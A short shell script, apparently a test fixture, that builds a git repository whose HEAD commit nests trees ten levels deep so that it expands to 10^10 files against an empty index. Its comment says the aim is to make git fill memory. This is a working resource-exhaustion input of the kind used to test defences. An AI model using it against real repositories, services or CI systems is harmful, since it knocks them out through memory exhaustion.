# The attacker wants git to fill the memory: a few trees that hold each other many times make a commit of 10^10 files, and the
# index is empty, so that all of them differ.
git init -q
printf 'import asyncio\n\n\nasync def f():\n    asyncio.sleep(1)\n' > a.py
name=$(printf '%0200d' 0)
below=$(printf x | git hash-object -w --stdin)
type="100644 blob"
for level in 1 2 3 4 5 6 7 8 9 10; do
    below=$(for number in 0 1 2 3 4 5 6 7 8 9; do printf '%s %s\t%s%s\n' "$type" "$below" "$name" "$number"; done | git mktree)
    type="040000 tree"
done
git update-ref HEAD "$(git commit-tree -m one "$below")"
